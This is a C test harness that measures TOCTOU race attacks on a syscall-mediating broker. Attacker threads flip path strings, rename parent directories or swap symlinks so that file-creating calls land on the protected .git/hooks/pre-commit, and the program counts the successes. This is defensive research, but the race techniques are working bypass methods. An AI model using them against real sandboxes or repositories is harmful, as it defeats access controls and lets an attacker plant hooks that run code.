/* An attacker flips a path, or what it leads to, while calls on it are decided. Counts how often the protected name
 * .git/hooks/pre-commit came into being. Usage: mediation_race MODE TRIES [INNOCENT PROTECTED], the files' names. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static char GOOD[64] = "ok/dir/xxx/pre-commit", EVIL[64] = ".git/hooks/pre-commit";
static volatile char flipped[64];
static volatile int stop;

static void *flip_memory(void *x) {
	while (!stop) {
		memcpy((char *)flipped, GOOD, sizeof GOOD);
		asm volatile("" ::: "memory");
		for (volatile int k = 0; k < 200; k++);
		memcpy((char *)flipped, EVIL, sizeof EVIL);
		asm volatile("" ::: "memory");
		for (volatile int k = 0; k < 200; k++);
	}
	return 0;
}
static void *flip_parents(void *x) {
	while (!stop) {
		rename("x", ".git");
		rename(".git", "x");
		syscall(SYS_renameat2, AT_FDCWD, "x", AT_FDCWD, "y", 2);
	}
	return 0;
}
/* The links lie in a directory of their own in /tmp: a name that a killed run of another user left there stays there.
 * Each flip and each try is a notification to one broker: with pauses all alike the two could keep step. */
static char apart[] = "/tmp/mediation-race-XXXXXX", link1[64], link2[64], good[600], evil[600];
static void *flip_link(void *x) {
	unsigned seed = 1;
	while (!stop) {
		symlink(good, link2);
		rename(link2, link1);
		for (volatile int k = rand_r(&seed) % 4000; k > 0; k--);
		symlink(evil, link2);
		rename(link2, link1);
		for (volatile int k = rand_r(&seed) % 4000; k > 0; k--);
	}
	return 0;
}
int main(int argc, char **argv) {
	const char *mode = argv[1];
	int tries = atoi(argv[2]), done = 0, seen = 0, fd;
	char top[512], through[128];
	struct stat st;
	pthread_t thread;
	getcwd(top, sizeof top);
	if (argc > 4) { strcpy(GOOD, argv[3]); strcpy(EVIL, argv[4]); }
	mkdir("ok", 0755); mkdir("ok/dir", 0755); mkdir("ok/dir/xxx", 0755);
	int parents = !strcmp(mode, "parents");
	if (parents) { mkdir("x", 0755); mkdir("x/hooks", 0755); mkdir("y", 0755); mkdir("y/hooks", 0755); }
	else { mkdir(".git", 0755); mkdir(".git/hooks", 0755); }
	int links = !strcmp(mode, "links");
	if (links && !mkdtemp(apart)) return 2;
	sprintf(link1, "%s/a", apart); sprintf(link2, "%s/b", apart);
	sprintf(good, "%s/ok/dir/xxx", top); sprintf(evil, "%s/.git/hooks", top);
	sprintf(through, "%s/pre-commit", link1);
	strcpy((char *)flipped, GOOD);
	if (links && symlink(good, link1)) return 3;
	pthread_create(&thread, 0, parents ? flip_parents : links ? flip_link : flip_memory, 0);
	for (int i = 0; i < tries; i++) {
		int r = -1;
		char *path = (char *)flipped;
		if (!strcmp(mode, "open")) { r = fd = syscall(SYS_open, path, O_CREAT | O_WRONLY, 0755); if (fd >= 0) close(fd); }
		else if (!strcmp(mode, "openat2")) {
			struct open_how how = {.flags = O_CREAT | O_WRONLY, .mode = 0755};
			r = fd = syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how);
			if (fd >= 0) close(fd);
		} else if (!strcmp(mode, "rename")) { fd = open("src", O_CREAT | O_WRONLY, 0755); close(fd); r = syscall(SYS_rename, "src", path); }
		else if (!strcmp(mode, "link")) { fd = open("src", O_CREAT | O_WRONLY, 0755); close(fd); r = syscall(SYS_link, "src", path); unlink("src"); }
		else if (!strcmp(mode, "symlink")) r = syscall(SYS_symlink, "/tmp/evil", path);
		else if (parents) { r = fd = open(i & 1 ? "x/hooks/pre-commit" : "y/hooks/pre-commit", O_CREAT | O_WRONLY, 0755); if (fd >= 0) close(fd); }
		else if (links) { r = fd = open(through, O_CREAT | O_WRONLY, 0755); if (fd >= 0) close(fd); }
		done += r >= 0;
		if (!lstat(EVIL, &st)) seen++;
		unlink(EVIL); unlink(GOOD); unlink("x/hooks/pre-commit"); unlink("y/hooks/pre-commit");
	}
	stop = 1;
	pthread_join(thread, 0);
	if (links) { unlink(link1); unlink(link2); rmdir(apart); }
	printf("%d %d %d\n", tries, done, seen);
	return 0;
}
